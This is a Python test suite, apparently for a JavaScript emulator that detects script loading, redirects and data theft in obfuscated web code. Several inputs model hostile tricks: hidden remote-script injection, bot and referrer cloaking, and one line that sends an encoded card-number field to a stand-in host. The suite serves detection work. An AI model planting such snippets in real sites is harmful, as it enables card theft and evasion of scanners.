from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.content.javascript.machine import Machine

ADDRESS = "https://b.example.net/x.js"


def acts(script):
    return [(one.kind, one.what) for one in Machine(script, 300_000).acts if one.kind != "runs"]


@pytest.mark.parametrize(
    "script",
    [
        "var s=document.createElement('script');s.src=A;document.head.appendChild(s)",
        "var s=document['create'+'Element']('SCRIPT');s.setAttribute('src',A)",
        "eval(\"document.createElement('script').src=A\")",
        "new Function('u','document.createElement(\"script\").src=u')(A)",
        "[].constructor.constructor('document.createElement(\"script\").src=A')()",
        "setTimeout(\"document.createElement('script').src=A\",9)",
        "window.onload=function(){document.createElement('script').src=A}",
        "function never(){document.createElement('script').src=A}",
        "if(!navigator.webdriver)document.createElement('script').src=A;",
        "function f(){if(document.cookie)return;document.createElement('script').src=A}f()",
        "class X{go(){document.createElement('script').src=A}}",
        "$.getScript(A)",
        "import(A)",
        "document.x={y:A};document.createElement('script').src=document.x.y",
        "document.write('<script src=\"'+A+'\"></'+'script>')",
        "this['eval']('docu'+'ment.createElement(\"script\").src=A')",
        "with(document){var s=createElement('script');s.src=A}",
        "with(document.createElement('script'))setAttribute('src',A)",
        "with(document)write('<script src=\"'+A+'\"></'+'script>')",
        "with(document.createElement('script')){src=A}",
        "a:{if(document.hidden)break a;document.createElement('script').src=A}",
    ],
)
def test_a_script_is_loaded(script):
    assert ("loads", ADDRESS) in acts(f"var A='{ADDRESS}';{script}")


@pytest.mark.parametrize(
    "decoder",
    [
        "String.fromCharCode(104,105)",
        "atob('aGk=')",
        "unescape('%68%69')",
        "'ih'.split('').reverse().join('')",
        "'hXi'.replace(/X/g,'')",
        "'\\x68\\u0069'",
        "['i','h'][1]+['i','h'][0]",
        "(function(){var o='';for(var i=0;i<2;i++)o+=String.fromCharCode([41,40][i]^65);return "
        "o})()",
        "parseInt('628',36).toString(36).replace('628','hi')",
        "[104,105].map(c=>String.fromCharCode(c)).join('')",
        "(function(a){a.push(a.shift());return a})(['i','h']).join('')",
        "`h${'i'}`",
        "(()=>{try{null.x}catch(e){return 'hi'}})()",
    ],
)
def test_a_text_is_worked_out(decoder):
    assert acts(f"location.href={decoder}") == [("leads", "hi")]


@pytest.mark.parametrize(
    "loop",
    [
        "for(;;){if(document.hidden)break}location.href=u[i]",
        "for(;;){if(document.hidden)continue;break}location.href=u[i]",
        "switch(i){default:if(document.hidden)break}location.href=u[i]",
        "a:for(;;){for(;;){if(document.hidden)break a}}location.href=u[i]",
        "a:{if(document.hidden)break a}location.href=u[i]",
        "location.href=u[i];if(document.hidden)document.title='';else continue",
    ],
)
def test_a_jump_that_may_be_taken_leaves_no_more_than_it_means(loop):
    script = f"var u=['one','two'];for(var i=0;i<2;i++){{{loop}}}"
    assert acts(script) == [("leads", "one"), ("leads", "two")]


def test_with_a_place():
    assert acts("with(location)href='there'") == [("leads", "there")]


def test_an_array_that_is_turned_until_a_sum_fits():
    script = """
    function names(){var a=['8','go','3'];names=function(){return a};return names()}
    (function(f,n){var a=f();while(true){try{if(parseInt(a[0])===n)break;a.push(a.shift())}
    catch(e){a.push(a.shift())}}})(names,3);
    location.href=names()[2];"""
    assert acts(script) == [("leads", "go")]


def test_packed_words_are_put_back():
    script = (
        "eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c+'\\\\b'"
        ",'g'),"
        "k[c]);return p}('0.1=\"2\"',3,3,'location|href|there'.split('|'),0,{}))"
    )
    assert acts(script) == [("leads", "there")]


def test_fields_are_followed():
    script = "new Image().src='//b.example.net/?'+btoa(document.getElementById('cc_number').value)"
    (act,) = Machine(script).acts
    assert act.tags >= {"card", "field", "encoded"}


def test_what_was_asked_before():
    script = "if(/google/.test(document.referrer)){location.href='//b.example.net'}"
    (act,) = Machine(script).acts
    assert "referrer" in act.asked


@pytest.mark.parametrize(
    "script",
    ["while(true){}", "function f(){f()}f()", "var a='x';while(true)a+=a", "for(;;)eval('1+1+1+1')",
     "var a=[];while(1)a.push(a)", "a={};a.a=a;location.href=a+''+JSON.stringify(a)"],
)  # fmt: skip
def test_ends_within_its_budget(script):
    machine = Machine(script, 50_000)
    assert machine.used <= 50_001


@given(st.lists(st.sampled_from(
    "a b 1 'x' ( ) [ ] { } . + = ; , function return eval document location if new => ? :".split()
), max_size=25))  # fmt: skip
def test_any_script_is_walked(words):
    assert Machine(" ".join(words), 3000).used <= 3001


def worked_out(script):
    found = Machine(f"location.href=({script})", 300_000).acts
    (what,) = (one.what for one in found if one.kind == "leads")
    return what


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("[] + {}", "[object Object]"),
        ("[] + []", ""),
        ('+"0x10"', "16"),
        ('+"0b11"', "3"),
        ('+"1e3"', "1000"),
        ('+"-5"', "-5"),
        ('+"-0x10"', "NaN"),
        ('+"12px"', "NaN"),
        ('+""', "0"),
        ('+"  42  "', "42"),
        ("+[]", "0"),
        ("+[7]", "7"),
        ("+[1,2]", "NaN"),
        ("+{}", "NaN"),
        ("+null", "0"),
        ("+undefined", "NaN"),
        ("+true", "1"),
        ('+"Infinity"', "Infinity"),
        ('+"inf"', "NaN"),
        ('+"nan"', "NaN"),
        ('+"-Infinity"', "-Infinity"),
        ('"5" * "2"', "10"),
        ('"5" - 2', "3"),
        ('"5" + 2', "52"),
        ('1 + 2 + "3"', "33"),
        ('"1" + 2 + 3', "123"),
        ("1 + null", "1"),
        ("1 + undefined", "NaN"),
        ("1 + true", "2"),
        ("true + true", "2"),
        ('null + "x"', "nullx"),
        ('undefined + "x"', "undefinedx"),
        ("[1,2] + [3]", "1,23"),
        ('({}) + "a"', "[object Object]a"),
        ("1 / 0", "Infinity"),
        ("-1 / 0", "-Infinity"),
        ("0 / 0", "NaN"),
        ("7 % 3", "1"),
        ("-7 % 3", "-1"),
        ("5.5 % 2", "1.5"),
        ("5 % 0", "NaN"),
        ("2 ** 10", "1024"),
        ("2 ** -1", "0.5"),
        ("2 ** 3 ** 2", "512"),
        ("0.1 + 0.2", "0.30000000000000004"),
        ("1 / 3", "0.3333333333333333"),
        ("10 / 2", "5"),
        ("1e21", "1e+21"),
        ("1e-7", "1e-7"),
        ("1e-6", "0.000001"),
        ("123456789012345680000", "123456789012345680000"),
        ("0.00001", "0.00001"),
        ("1.5e300", "1.5e+300"),
        ("-0", "0"),
        ("7 & 3", "3"),
        ("5 | 2", "7"),
        ("5 ^ 1", "4"),
        ("~5", "-6"),
        ("~~3.7", "3"),
        ("-3.7 | 0", "-3"),
        ("1 << 31", "-2147483648"),
        ("1 << 33", "2"),
        ("-1 >> 1", "-1"),
        ("-1 >>> 0", "4294967295"),
        ("-1 >>> 28", "15"),
        ('"a" | 0', "0"),
        ("2147483648 | 0", "-2147483648"),
        ('"3" | 0', "3"),
        ("1 < 2", "true"),
        ('"a" < "b"', "true"),
        ('"10" < "9"', "true"),
        ('"10" < 9', "false"),
        ('"10" > 9', "true"),
        ("null >= 0", "true"),
        ("undefined >= 0", "false"),
        ("NaN < 1", "false"),
        ("2 >= 2", "true"),
        ("2 <= 1", "false"),
        ('"b" <= "b"', "true"),
        ('1 == "1"', "true"),
        ('1 === "1"', "false"),
        ("1 === 1", "true"),
        ("1 == true", "true"),
        ("1 === true", "false"),
        ('"1" == true', "true"),
        ("null == undefined", "true"),
        ("null === undefined", "false"),
        ("null == 0", "false"),
        ("undefined == 0", "false"),
        ("NaN == NaN", "false"),
        ('[] == ""', "true"),
        ("[1] == 1", "true"),
        ("[] == false", "true"),
        ('"" == 0', "true"),
        ('"a" != "b"', "true"),
        ('1 !== "1"', "true"),
        ('"a" === "a"', "true"),
        ("true === true", "true"),
        ("[] === []", "false"),
        ('"0" == false', "true"),
        ('!""', "true"),
        ('!"0"', "false"),
        ("![]", "false"),
        ("!!NaN", "false"),
        ("!0", "true"),
        ("typeof 1", "number"),
        ('typeof "a"', "string"),
        ("typeof undefined", "undefined"),
        ("typeof null", "object"),
        ("typeof {}", "object"),
        ("typeof []", "object"),
        ("typeof function(){}", "function"),
        ("typeof true", "boolean"),
        ("typeof NaN", "number"),
        ("typeof /x/", "object"),
        ("typeof eval", "function"),
        ("void 0", "undefined"),
        ('"a" in {a:1}', "true"),
        ('"b" in {a:1}', "false"),
        ("1 && 2", "2"),
        ("0 && 2", "0"),
        ('0 || "x"', "x"),
        ('"" || "y"', "y"),
        ('null ?? "z"', "z"),
        ("0 ?? 1", "0"),
        ("false ?? 1", "false"),
        ('"" ?? 1', ""),
        ('undefined ?? "u"', "u"),
        ('1 ? "t" : "f"', "t"),
        ('"" ? "t" : "f"', "f"),
        ('[] ? "t" : "f"', "t"),
        ("(1, 2, 3)", "3"),
        ("Number.MAX_SAFE_INTEGER", "9007199254740991"),
        ('"\\u{61}"', "a"),
        ('"\\x41\\101\\u0042"', "AAB"),
        ('"abc"[1]', "b"),
        ('"abc"[5]', "undefined"),
        ('"abc".length', "3"),
        ('"a b c".split(" ").map(function(x){return x+x}).join("")', "aabbcc"),
        ('"abc".replace(/b/, function(m){return m.toUpperCase()})', "aBc"),
        ('"a1b2".replace(/([a-z])(\\d)/g, function(m, l, d, at){return d+l+at})', "1a02b2"),
        ('new RegExp("a+", "g").test("caat")', "true"),
        ('new RegExp("\\\\d").test("a1")', "true"),
        ("/a/gi.flags", "gi"),
        ("/a/g.global", "true"),
        ("[3,1,2].sort(function(a,b){return b-a}).join()", "3,2,1"),
        ('new Array(3).join("ab")', "abab"),
        ("[...[1,2],3].length", "3"),
        ("[1,2,3].length", "3"),
        ("[1,,3].length", "3"),
        ("(255).toString(16)", "ff"),
        ("(255).toString(2)", "11111111"),
        ("(35).toString(36)", "z"),
        ("(-255).toString(16)", "-ff"),
        ("(10).toString()", "10"),
        ("(1.005).toFixed(1)", "1.0"),
        ("(2.5).toFixed(0)", "3"),
        ("(1.5).toFixed(0)", "2"),
        ("(0).toFixed(2)", "0.00"),
        ("(5).valueOf()", "5"),
        ("(1e21).toString()", "1e+21"),
        ("2**100", "1.2676506002282294e+30"),
        ('({a:1}).hasOwnProperty("a")', "true"),
        ('({a:1}).hasOwnProperty("b")', "false"),
        ("({a:1}).toString()", "[object Object]"),
        ('({a:1})["a"]', "1"),
        ('({["a"+"b"]:1}).ab', "1"),
        ("({get x(){return 5}}).x", "5"),
        ("({a:1,...{b:2}}).b", "2"),
        ("({a(){return 7}}).a()", "7"),
        ('({1:"one"})[1]', "one"),
        ("`a${1+1}b`", "a2b"),
        ('`${"x"}${`y${1}`}`', "xy1"),
        ("((a) => a`x${1}y`)((s, v) => s[0] + v + s[1])", "x1y"),
        ("eval(\"'abc'+'def'\")", "abcdef"),
        ("eval(\"var q=1;q+'abcdef'\")", "1abcdef"),
        ('new Function("a","b","return a+b")(1,2)', "3"),
        ('[]["constructor"]["constructor"]("return \'xyz1234567890abc\'")()', "xyz1234567890abc"),
        ("(function(){return this===window})()", "true"),
        ("(function(){return arguments.length})(1,2,3)", "3"),
        ("(function(a,b=5){return a+b})(1)", "6"),
        ("(function(a,...r){return r.length})(1,2,3)", "2"),
        ("(({a,b:c}) => a+c)({a:1,b:2})", "3"),
        ("(([x,,y]) => x+y)([1,2,3])", "4"),
        ("(({a=4}) => a)({})", "4"),
        ('(([x,...r]) => r.join(""))([1,2,3])', "23"),
        ("(({a,...r}) => Object.keys(r).join())({a:1,b:2,c:3})", "b,c"),
        ("(function f(n){return n?n*f(n-1):1})(5)", "120"),
        ("(x => y => x + y)(1)(2)", "3"),
        ("(() => ({a:1}))().a", "1"),
        ("(function(){return this.a}).call({a:3})", "3"),
        ("(function(b){return this.a+b}).apply({a:3},[4])", "7"),
        ("(function(b){return this.a+b}).bind({a:3})(4)", "7"),
        ("(function(a,b){return a+b}).bind(null,1)(4)", "5"),
        ("(function(){}).name", ""),
        ("(function(a,b){}).length", "2"),
        ('"abc".constructor === String', "true"),
        ("[].constructor === Array", "true"),
        ("(5).constructor.name", "Number"),
        ("[][[]]", "undefined"),
        ("[]+[][[]]", "undefined"),
        ("(![]+[])[0]", "f"),
        ("(![]+[])[+!+[]]", "a"),
        ("([][[]]+[])[1]", "n"),
        ("(+[![]]+[])[0]", "N"),
        (
            "(+(+!+[]+(!+[]+[])[!+[]+!+[]+!+[]]+[+!+[]]+[+[]]+[+[]]+[+[]])+[])[!+[]"
            "+!+[]+!+[]+!+[]+!+[]+!+[]+!+[]]",
            "y",
        ),
        ("(!![]+[])[1]+(!![]+[])[0]", "rt"),
        ('[]["flat"]+""', "function flat() { [native code] }"),
        ("({a:{b:1}})?.a?.b", "1"),
        ("null?.b", "undefined"),
        ("null?.b.c", "undefined"),
        ("({}).a?.()", "undefined"),
        ("(+!![])+1", "2"),
        ('"b"+"a"+ +"a"+"a"', "baNaNa"),
        ('"2"+"2"-"2"', "20"),
        ("[1]+1", "11"),
        ("[]*2", "0"),
        ('"3"*[4]', "12"),
        ("null*5", "0"),
        ("1<2<3", "true"),
        ("3>2>1", "false"),
        ('"foo"+ +"bar"', "fooNaN"),
        ('-"5"', "-5"),
        ('-""', "0"),
        ("- -1", "1"),
        ("1- -1", "2"),
        ('"a"<1', "false"),
        ("[2]>1", "true"),
        ("!function(){return 0}()", "true"),
        ("new (class {constructor(a){this.a=a}})(5).a", "5"),
        ("new (class A {get v(){return 6}})().v", "6"),
        ("(class {static s(){return 8}}).s()", "8"),
        ("new (class extends (class {m(){return 3}}){})().m()", "3"),
        (
            "new (class extends (class {constructor(x){this.x=x}}){constructor(){su"
            "per(4);this.y=1}})().x",
            "4",
        ),
        (
            "(function(){function A(){this.v=2};A.prototype.g=function(){return thi"
            "s.v};return new A().g()})()",
            "2",
        ),
        ('new String("ab") + "c"', "abc"),
        ("new Number(5) + 1", "6"),
        ("0.1*3", "0.30000000000000004"),
        ("5e-324", "5e-324"),
        ("100/3", "33.333333333333336"),
        ("1e300*1e10", "Infinity"),
        ("0xff", "255"),
        ("0b101", "5"),
        ("0o17", "15"),
        ("017", "15"),
        ("1_000", "1000"),
        ("10n+1n", "11"),
        (".5+.5", "1"),
        ('"\\u0041\\n\\t".length', "3"),
        ("'\\0'.length", "1"),
        ("'it\\'s'", "it's"),
        ('"a" > "B"', "true"),
        ('"abc" == new String("abc")', "true"),
        ('[1,2,3]+""', "1,2,3"),
        ('[[]]+""', ""),
        ('[[1],[2]]+""', "1,2"),
        ("delete {}.x", "true"),
    ],
)
def test_expressions(script, expected):
    assert worked_out(script) == expected


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("(function(){var o='';for(var i=0;i<3;i++)o+=i;return o})()", "012"),
        (
            "(function(){var o='';for(var i=0;i<5;i++){if(i==1)continue;if(i==3)bre"
            "ak;o+=i}return o})()",
            "02",
        ),
        ("(function(){var i=0,o='';while(i<3){o+=i;i++}return o})()", "012"),
        ("(function(){var i=5,o='';do{o+=i;i--}while(i>3);return o})()", "54"),
        ("(function(){var i=0;do{i++;if(i==2)break}while(true);return i})()", "2"),
        ("(function(){var o='';for(var k in {a:1,b:2})o+=k;return o})()", "ab"),
        ("(function(){var o='';for(var k in ['x','y'])o+=k;return o})()", "01"),
        ("(function(){var o='';for(const c of 'abc')o=c+o;return o})()", "cba"),
        (
            "(function(){var o='';for(const [k,v] of Object.entries({a:1,b:2}))o+=k+v;return o})()",
            "a1b2",
        ),
        ("(function(){var o='';for(const c of [1,2,3]){if(c==2)continue;o+=c}return o})()", "13"),
        ("(function(){var o='';for(const c of [1,2,3]){if(c==2)break;o+=c}return o})()", "1"),
        ("(function(){var o='';for(var k in 'ab')o+=k;return o})()", "01"),
        ("(function(){for(const c of [1,2,3])if(c==2)return c})()", "2"),
        ("(function(){switch(2){case 1:return 'a';case 2:return 'b';default:return 'c'}})()", "b"),
        (
            "(function(){var o='';switch(1){case 1:o+='a';case 2:o+='b';break;case "
            "3:o+='c'}return o})()",
            "ab",
        ),
        ("(function(){switch(9){case 1:return 'a';default:return 'd'}})()", "d"),
        (
            "(function(){var o='';switch(9){case 1:o+='a';default:o+='d';case 2:o+="
            "'b'}return o})()",
            "db",
        ),
        (
            "(function(){var o='';switch(2){case 1:o+='a';default:o+='d';case 2:o+="
            "'b'}return o})()",
            "b",
        ),
        ("(function(){switch('1'){case 1:return 'n';case '1':return 's'}})()", "s"),
        ("(function(){switch(true){case 2>3:return 'a';case 3>2:return 'b'}})()", "b"),
        (
            "(function(){var o='',s='2|0|1'.split('|'),i=0;while(true){switch(s[i++"
            "]){case '0':o+='b';continue;case '1':o+='c';continue;case '2':o+='a';c"
            "ontinue}break}return o})()",
            "abc",
        ),
        ("(function(){try{throw 'x'}catch(e){return e+'!'}})()", "x!"),
        ("(function(){try{return 'a'}finally{return 'b'}})()", "b"),
        ("(function(){var o='';try{o+='a'}finally{o+='b'}return o})()", "ab"),
        ("(function(){var o='';try{try{throw 1}finally{o+='f'}}catch(e){o+=e}return o})()", "f1"),
        ("(function(){try{null.x}catch{return 'c'}})()", "c"),
        ("(function(){try{undefined()}catch(e){return 'c'}})()", "c"),
        ("(function(){try{throw new Error('m')}catch(e){return 'c'}})()", "c"),
        ("(function(){var o='';try{throw 1}catch(e){o+='c'}finally{o+='f'}return o})()", "cf"),
        ("(function(){var o='';function f(){try{return 1}finally{o+='f'}}f();return o})()", "f"),
        ("(function(){try{(function(){throw 'deep'})()}catch(e){return e}})()", "deep"),
        (
            "(function(){var o='';try{try{throw 'a'}catch(e){throw e+'b'}finally{o="
            "'f'}}catch(e){return e+o}})()",
            "abf",
        ),
        (
            "(function(){function c(){var n=0;return function(){return ++n}}var f=c"
            "();f();return f()})()",
            "2",
        ),
        ("(function(){var a=[1,2],b=a;b.push(3);return a.length})()", "3"),
        ("(function(){var [a,b]=[1,2];[a,b]=[b,a];return a+','+b})()", "2,1"),
        ("(function(){var {a,b:{c}}={a:1,b:{c:2}};return a+c})()", "3"),
        ("(function(){var {a=5,b}={b:2};return a+b})()", "7"),
        ("(function(){var [a,...r]=[1,2,3];return r.join('')})()", "23"),
        ("(function(){var {a,...r}={a:1,b:2};return Object.keys(r)+''})()", "b"),
        ("(function(){var [a=7]=[];return a})()", "7"),
        ("(function(){var o={};o.x=1;o['y']=2;o.x+=5;return o.x*o.y})()", "12"),
        ("(function(){var o={n:{}};o.n.v='q';return o.n.v})()", "q"),
        (
            "(function(){var x=5;x-=2;x*=4;x/=3;x%=3;x<<=4;x|=1;x^=3;x&=0xfe;x>>=1;return x})()",
            "9",
        ),
        ("(function(){var x=2;x**=3;return x})()", "8"),
        ("(function(){var x=-1;x>>>=28;return x})()", "15"),
        ("(function(){var x=null;x??=4;return x})()", "4"),
        ("(function(){var x=0;x||=4;return x})()", "4"),
        ("(function(){var x=1;x&&=4;return x})()", "4"),
        ("(function(){var i=1;return i++ + ++i})()", "4"),
        ("(function(){var i=1;return i-- - --i})()", "2"),
        ("(function(){var s='5';s++;return s})()", "6"),
        ("(function(){var a=[1,2,3];a.length=0;return a.length})()", "0"),
        ("(function(){var a=[1,2,3];a.length=2;return a.join()})()", "1,2"),
        ("(function(){var a=[];a[3]=1;return a.length})()", "4"),
        ("(function(){var a=[];a['x']=1;return a.x+a.length})()", "1"),
        ("(function(){var a=[1,2,3];delete a[0];return a.join()})()", ",2,3"),
        ("(function(){var o={a:1};delete o.a;return 'a' in o})()", "false"),
        ("(function(){var o={a:1};delete o.a;return o.a})()", "undefined"),
        ("(function(){return f();function f(){return 'h'}})()", "h"),
        ("(function(){var f=function g(){return typeof g};return f()})()", "function"),
        ("(function(){if(0)return 1;else if(1)return 2;else return 3})()", "2"),
        ("(function(){if(0)return 1;return 4})()", "4"),
        ("(function(){var x=1;function f(){x=2}f();return x})()", "2"),
        ("(function(){var a=[3,1,2];a.splice(1,1);return a.join()})()", "3,2"),
        ("(function(){var a=[1,2,3];return a.splice(-1)+'|'+a})()", "3|1,2"),
        ("(function(){var a=[1,4];a.splice(1,0,2,3);return a.join()})()", "1,2,3,4"),
        (
            "(function(){var a=[1];a.unshift(0);a.push(2,3);return a.shift()+a.pop()+a.join()})()",
            "31,2",
        ),
        ("(function(){var o='';[1,2].forEach(function(x,i){o+=x*i});return o})()", "02"),
        (
            "(function(){var o='',m,r=/(\\d)/g;while(m=r.exec('a1b2'))o+=m[1]+m.index;return o})()",
            "1123",
        ),
        ("(function(){var r=/a/g;return [r.test('a'),r.test('a')].join()})()", "true,false"),
        (
            "(function(){function F(a){this.a=a}F.prototype={g:function(){return th"
            "is.a}};return new F(3).g()})()",
            "3",
        ),
        ("(function(){function F(){}F.s=4;return F.s})()", "4"),
        ("(function(){function F(){return {z:1}}return new F().z})()", "1"),
        (
            "(function(){class A{constructor(){this.x=1}g(){return this.x}}class B "
            "extends A{g(){return super.g()+1}}return new B().g()})()",
            "2",
        ),
        ("(function(){class A{x=5;static y=6}return new A().x+A.y})()", "11"),
        ("(function(){var o={get a(){return this.b},b:2,set a(v){}};return o.b})()", "2"),
        ("(function(){var o={_v:1,get v(){return this._v+1}};return o.v})()", "2"),
        ("(function(){var o={};Object.defineProperty(o,'k',{value:3});return o.k})()", "3"),
        (
            "(function(){var o={};Object.defineProperty(o,'k',{get:function(){retur"
            "n 4}});return o.k})()",
            "4",
        ),
        ("(function(){var p={a:1},o=Object.create(p);o.a=2;return p.a})()", "1"),
        ("(function(){var o=Object.create(null);o.a=2;return o.a})()", "2"),
        ("(function(){var e=eval;return e(\"'abc'+'d'\")})()", "abcd"),
        ("(function(){return [1,2,3].map(String).join('')})()", "123"),
        (
            "(function(){var k='abc',o='';for(var i=0;i<3;i++)o+=String.fromCharCod"
            "e('ABC'.charCodeAt(i)^k.charCodeAt(i%k.length)^1);return escape(o)})()",
            "%21%21%21",
        ),
        (
            "(function(){var h=5381,s='abc';for(var i=0;i<s.length;i++)h=(h*33)^s.c"
            "harCodeAt(i);return h>>>0})()",
            "193409669",
        ),
        (
            "(function(){var h=123456789;for(var i=0;i<5;i++)h=(h*1103515245+12345)"
            "&0x7fffffff;return h})()",
            "774573568",
        ),
        ("(function(){return (function(){return this.q}).call({q:1})})()", "1"),
        ("(function(){var o={a:1,f(){return (()=>this.a)()}};return o.f()})()", "1"),
        ("(function(){return arguments[1]})(1,2)", "2"),
        ("(function(){return Array.prototype.slice.call(arguments,1).join()})(1,2,3)", "2,3"),
        ("(function(a){arguments;a=2;return a})(1)", "2"),
        ("(function*(){yield 1}).length", "0"),
        ("(function(){var s=0;for(var i=0,j=5;i<j;i++,j--)s+=j-i;return s})()", "9"),
        ("(function(){for(;;){return 'once'}})()", "once"),
        ("(function(){var a=1;var a;return a})()", "1"),
        ("(function(){if(true){var q=3}return q})()", "3"),
        ("(function(){;;;return 1})()", "1"),
        ("(function(){let x=1;{let x=2}return x})()", "1"),
        ("(function(){var x=1;{var x=2}return x})()", "2"),
        ("(function(){const x='a';if(true){const x='b'}return x})()", "a"),
        ("(function(){let i=9;for(let i=0;i<3;i++){}return i})()", "9"),
        ("(function(){var i=9;for(var i=0;i<3;i++){}return i})()", "3"),
        (
            "(function(){var f=[];for(let i=0;i<3;i++)f.push(()=>i);return f.map(g=>g()).join('')"
            "})()",
            "012",
        ),
        (
            "(function(){var f=[];for(var i=0;i<3;i++)f.push(()=>i);return f.map(g=>g()).join('')"
            "})()",
            "333",
        ),
        (
            "(function(){var f=[];for(const c of 'ab')f.push(()=>c);return f.map(g=>g()).join('')"
            "})()",
            "ab",
        ),
        (
            "(function(){var f=[];for(let k in {a:1,b:2})f.push(()=>k);return f.map(g=>g()).join("
            "'')})()",
            "ab",
        ),
        (
            "(function(){var f=[];for(let i=0;i<3;i++){f.push(()=>i);i++}return f.map(g=>g()).joi"
            "n('')})()",
            "13",
        ),
        (
            "(function(){let o='';for(let i=0;i<2;i++){let t;o+=typeof t;t=i}return o})()",
            "undefinedundefined",
        ),
        ("(function(){let x='out';switch(1){case 1:let x='in'}return x})()", "out"),
        ("(function(){var e='out';try{throw 'in'}catch(e){e+='!'}return e})()", "out"),
        ("(function(){try{throw 'in'}catch(e){var v=e}return v})()", "in"),
        ("(function(){let x=1;{let x=2;var f=()=>x}return f()+x})()", "3"),
        ("(function(){{function g(){return 'b'}}return g()})()", "b"),
        ("(function(){let k=1;{let k=2;function g(){return k}}return g()})()", "2"),
        (
            "(function(){class A{static v(){return 1}}{class A{static v(){return 2}}}return A.v()"
            "})()",
            "1",
        ),
        ("(function(){let [a,b]=[1,2];{let [a,b]=[3,4]}return a+','+b})()", "1,2"),
        (
            "(function(){let o='';a:for(var i=0;i<3;i++)for(var j=0;j<3;j++){if(j==1)continue a;o"
            "+=i+''+j+' '}return o})()",
            "00 10 20 ",
        ),
        (
            "(function(){let o='';a:for(var i=0;i<3;i++)for(var j=0;j<3;j++){if(j==1)break a;o+=i"
            "+''+j+' '}return o})()",
            "00 ",
        ),
        ("(function(){var o='';a:{o+='x';if(o)break a;o+='y'}return o})()", "x"),
        ("(function(){var o='';a:{for(;;){o+='x';break a}o+='y'}return o})()", "x"),
        (
            "(function(){var o='',i=0;a:while(i<3){i++;do{if(i==2)continue a;o+=i}while(false)}re"
            "turn o})()",
            "13",
        ),
        (
            "(function(){var o='';a:b:for(var i=0;i<3;i++){for(;;){if(i==1)continue a;break}o+=i}"
            "return o})()",
            "02",
        ),
        (
            "(function(){var o='';a:for(var x of [1,2,3]){for(var y of [1,2]){if(x==2)continue a;"
            "if(x==3)break a;o+=x*y}}return o})()",
            "12",
        ),
        (
            "(function(){var o='';a:for(var i=0;i<2;i++){switch(i){case 0:continue a;default:o+=i"
            "}}return o})()",
            "1",
        ),
        (
            "(function(){var o='';for(var i=0;i<3;i++){a:if(i<2){if(i==1)break;o+=i}o+='.'}return"
            " o})()",
            "0.",
        ),
        (
            "(function(){var o='';a:do{o+='x';for(;;)continue a}while(o.length<3);return o})()",
            "xxx",
        ),
        (
            "(function(){var o='';a:for(var i=0;i<3;i++){try{if(i==1)continue a}finally{o+='f'}o+"
            "=i}return o})()",
            "f0ff2",
        ),
        (
            "(function(){var i=0,o='';a:while(true){switch(i++){case 0:o+='a';continue;case 1:o+="
            "'b';break;case 2:break a}o+='.'}return o})()",
            "ab.",
        ),
        ("(function(){with({a:1,b:2})return a+b})()", "3"),
        (
            "(function(){var o={a:1};with(o){a=5;c=7}return o.a+','+typeof o.c+','+c})()",
            "5,undefined,7",
        ),
        ("(function(){with(Math)return max(1,floor(2.7))})()", "2"),
        ("(function(){with(String)return fromCharCode(104,105)})()", "hi"),
        ("(function(){var a=[1,2];with(a){push(3)}return a.join()})()", "1,2,3"),
        ("(function(){with([3,4])return length+join('-')})()", "23-4"),
        ("(function(){var o={n:4,f:function(){return this.n}};with(o)return f()})()", "4"),
        ("(function(){var n='out',o={};with(o){var n='in'}return n+typeof o.n})()", "inundefined"),
        ("(function(){with({x:1})with({y:2})return x+y})()", "3"),
        ("(function(){with({x:1}){var f=function(){return x}}return f()})()", "1"),
        ("(function(){with({x:1}){function g(){return 'g'}}return g()})()", "g"),
        ("(function(){var s='';with({p:'q'}){let p='r';s+=p}return s})()", "r"),
        ("(function(){with({e:eval})return e('1+1+1+1')})()", "4"),
        ("(function(){var o={n:1};with(o){var n='in'}return typeof n+o.n})()", "undefinedin"),
        ("(function(){try{throw 'in'}catch(e){var e='x'}return typeof e})()", "undefined"),
    ],
)
def test_statements(script, expected):
    assert worked_out(script) == expected


@pytest.mark.parametrize(
    "script",
    [
        "var x=Array(99999).fill(0),y=Array(99999).fill(x);location.href=''+y",
        "var x=Array(99999).fill(0),y=Array(99999).fill(x);location.href=y.join()",
        "var x=Array(99999).fill(0),y=Array(99999).fill(x);location.href=y.flat()",
        "var x=[0];for(;;)x=[x,x,x,x,x,x,x,x,JSON.stringify(x)]",
    ],
)
def test_what_holds_itself_many_times_is_not_written_out(script):
    assert Machine(script, 50_000).exhausted


@pytest.mark.parametrize(
    "script",
    [
        "[a].some(x=>x)",
        "parseInt(a)",
        "parseFloat(a)",
        "isNaN(a)",
        "Number(a)",
        "Boolean(a)",
        "Math.random()",
        "Math.floor(a)",
        "-a",
        "~a",
        "a+1",
        "a*2",
        "a|1",
        "a<b",
        "a==b",
        "a===1",
        "!a",
        "typeof a",
        "a in b",
        "a++",
        "JSON.parse(a)",
        "JSON.parse('{')",
        "JSON.parse('NaN')",
        "String.fromCharCode(a)",
        "Object.keys(a)",
        "'x'.replace(a,'')[0]+a",
        "'abc'.match(RegExp('('))",
        "'abc'.search(RegExp('('))",
        "'abc'.split(RegExp('('))",
        "/x/.test(a)",
        "(a+'').length",
        "(a+'').charAt(0)",
        "Object.prototype.toString.call(a)",
    ],
)
def test_what_nobody_knows_is_not_told(script):
    assert "\ufffd" in worked_out(script)
